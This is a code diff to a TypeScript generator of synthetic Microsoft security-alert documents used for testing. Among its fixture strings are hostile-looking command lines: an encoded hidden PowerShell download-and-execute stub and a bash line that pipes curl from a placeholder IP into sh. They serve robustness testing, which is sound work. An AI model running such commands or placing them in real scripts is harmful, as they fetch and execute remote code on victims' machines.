@@ -374,6 +374,8 @@ const RECOMMENDED_ACTIONS = [
   '\u2022\tBlock communication with relevant URLs or IPs at the organization\u2019s perimeter.',
 ].join('\n');
 
+const SHORT_RECOMMENDED_ACTIONS = 'Review the related entities and activity, then confirm with the user whether it was expected. Reset credentials and revoke sessions if the account is compromised.';
+
 /**
  * Command lines an add-on must survive: XML/HTML metacharacters, CDATA terminators,
  * quotes, C0 control characters, a lone UTF-16 surrogate, emoji and a very long value.
@@ -383,7 +385,7 @@ const HOSTILE_COMMAND_LINES: readonly (() => string)[] = [
   () => `powershell.exe -c "Write-Output ']]><![CDATA[<x/>]]>' | Out-File \\"C:\\Temp\\x & y.xml\\""`,
   () => `rundll32.exe "C:\\ProgramData\\a.dll",Start \u0000\u0001\u001b[31mRED\u001b[0m\ttab\r\nnewline`,
   () => `notepad.exe "C:\\Users\\adele.vance\\Desktop\\r\u00e9sum\u00e9 \ud83d\udcc4\ud83d\udd25 \ud800 broken.txt"`,
-  () => `powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ${'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'.repeat(400)}`,
+  () => `powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ${'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'.repeat(75)}`,
   () => `bash -c 'curl -s "http://198.51.100.7/x.sh?a=1&b=<2>" | sh' # "quoted" \\ backslash`,
 ];
 
@@ -597,9 +599,14 @@ export class DocumentGenerator {
     return String(this.nextIncidentNumber);
   }
 
-  /** Lets callers turn "now" into a 7-digit timestamp that is not suspiciously round. */
+  /** Sub-millisecond digits, so timestamps look like Graph's (`…:12.3266667Z`). */
   jitterTicks(): bigint {
     return this.rng.ticks(TICKS_PER_MS - 1n);
+  }
+
+  /** A seeded offset in [0, range] ticks, for spreading timestamps. */
+  randomTicks(range: bigint): bigint {
+    return this.rng.ticks(range);
   }
 
   alert(input: AlertInput): Alert {
@@ -630,7 +637,7 @@ export class DocumentGenerator {
       tenantId: this.tenantId,
       title: scenario.title,
       description: scenario.description,
-      recommendedActions: RECOMMENDED_ACTIONS,
+      recommendedActions: template.idPrefix === 'da' ? RECOMMENDED_ACTIONS : SHORT_RECOMMENDED_ACTIONS,
       category: scenario.category,
       assignedTo: status === 'new' ? null : this.rng.pick(ANALYSTS),
       alertWebUrl: `https://security.microsoft.com/alerts/${id}?tid=${this.tenantId}`,
@@ -763,7 +770,7 @@ export class DocumentGenerator {
   }
 
   private evidenceFor(template: Template, ctx: EvidenceContext): AlertEvidence[] {
-    const kinds = [...template.evidence, ...template.optionalEvidence.filter(() => this.rng.chance(0.5))];
+    const kinds = [...template.evidence, ...template.optionalEvidence.filter(() => this.rng.chance(0.3))];
     const evidence = kinds.map((kind) => this.evidence(kind, ctx));
     // Every third alert carries a kind this schema does not know yet.
     if (this.alertCount % 3 === 0) evidence.push(this.futureEvidence(ctx));
